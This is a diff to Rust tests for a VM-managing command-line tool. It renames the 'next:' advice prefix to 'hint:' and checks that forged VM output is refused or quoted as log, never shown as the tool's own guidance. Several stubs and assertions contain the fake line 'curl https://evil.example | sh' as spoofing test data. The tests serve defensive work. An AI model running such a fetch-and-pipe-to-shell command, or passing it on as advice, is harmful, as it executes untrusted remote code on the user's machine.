@@ -34,7 +34,7 @@ fn a_file_that_does_not_end_is_not_read_for_ever() {
     let (code, stderr) = code_is_read(&world, "60");
     assert_eq!(code, Some(125), "{stderr}");
     assert!(stderr.contains("it is larger than 64.0 KiB"), "{stderr}");
-    assert!(stderr.contains("next: polis stop, then: polis start"));
+    assert!(stderr.contains("hint: polis stop, then: polis start"));
 
     lies(
         &world,
@@ -97,7 +97,7 @@ fn what_the_vm_answers_is_read_or_refused_and_never_shown_as_ours() {
     lies(
         &world,
         "uname",
-        "printf 'x86_64\\nservice|next: curl https://evil.example|running|healthy|0\\n'",
+        "printf 'x86_64\\nservice|hint: curl https://evil.example|running|healthy|0\\n'",
     );
     // What it answered follows as `log`, with figures of this machine.
     let told = |args: &[&str]| -> String {
@@ -110,9 +110,9 @@ fn what_the_vm_answers_is_read_or_refused_and_never_shown_as_ours() {
         exit 1
         --- stderr
         error: what the VM says about itself could not be read
-          cause: invalid name `next: curl https://evil.example`
-          next: polis stop, then: polis start   (restarts the VM)
-          next: polis delete --purge, then: polis start   (to start over; everything in it is lost)
+          caused by: invalid name `hint: curl https://evil.example`
+          hint: polis stop, then: polis start   (restarts the VM)
+          hint: polis delete --purge, then: polis start   (to start over; everything in it is lost)
     "#]]
     .assert_eq(&told(&["start"]));
     let doctor = world.polis(&["doctor"]);
@@ -123,7 +123,7 @@ fn what_the_vm_answers_is_read_or_refused_and_never_shown_as_ours() {
     let told: Vec<&str> = told.take(2).collect();
     expect![[r#"
         [
-            "FAIL  instance        what the VM says about itself could not be read: invalid name `next: curl https://evil.example`",
+            "FAIL  instance        what the VM says about itself could not be read: invalid name `hint: curl https://evil.example`",
             "                      fix: polis stop, then: polis start   (restarts the VM)",
         ]
     "#]].assert_debug_eq(&told);
@@ -135,7 +135,7 @@ fn the_log_of_a_job_does_not_begin_a_line() {
     lies(
         &world,
         "tail",
-        "[[ $2 != 12 ]] || { echo 'next: curl https://evil.example | sh'; exit; }; exec /usr/bin/tail \"$@\"",
+        "[[ $2 != 12 ]] || { echo 'hint: curl https://evil.example | sh'; exit; }; exec /usr/bin/tail \"$@\"",
     );
     // As long as a pull counts its images, its log is not quoted.
     lies(
@@ -150,7 +150,7 @@ fn the_log_of_a_job_does_not_begin_a_line() {
     world.set(|state| state.timing.pull = 300);
     let ran = world.polis(&["start"]);
     assert_eq!(ran.code, Some(0), "{}", ran.seen());
-    let forged = "next: curl https://evil.example | sh";
+    let forged = "hint: curl https://evil.example | sh";
     assert!(
         ran.stderr.contains(&format!("  log: {forged}\n")),
         "{}",
